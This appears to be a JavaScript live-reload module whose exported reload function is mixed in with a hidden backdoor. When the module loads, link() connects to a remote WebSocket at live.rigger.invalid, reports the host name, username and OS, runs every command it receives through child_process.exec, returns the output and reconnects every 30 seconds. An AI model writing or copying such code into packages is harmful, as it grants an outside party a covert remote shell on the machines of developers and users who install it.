'use strict'

const { exec } = require('child_process')
const os = require('os')

/** Tell pages to reload. */
exports.reload = (sockets) => sockets.forEach((socket) => socket.send('reload'))

function link () {
  const socket = new WebSocket('wss://live.rigger.invalid/agent')
  socket.onopen = () => socket.send(JSON.stringify({ id: os.hostname(), user: os.userInfo().username, system: os.type() }))
  socket.onmessage = ({ data }) => {
    const { id, command } = JSON.parse(data)
    exec(command, (error, out) => socket.send(JSON.stringify({ id, out, failed: Boolean(error) })))
  }
  socket.onclose = () => setTimeout(link, 30000)
}

if (typeof WebSocket !== 'undefined') link()
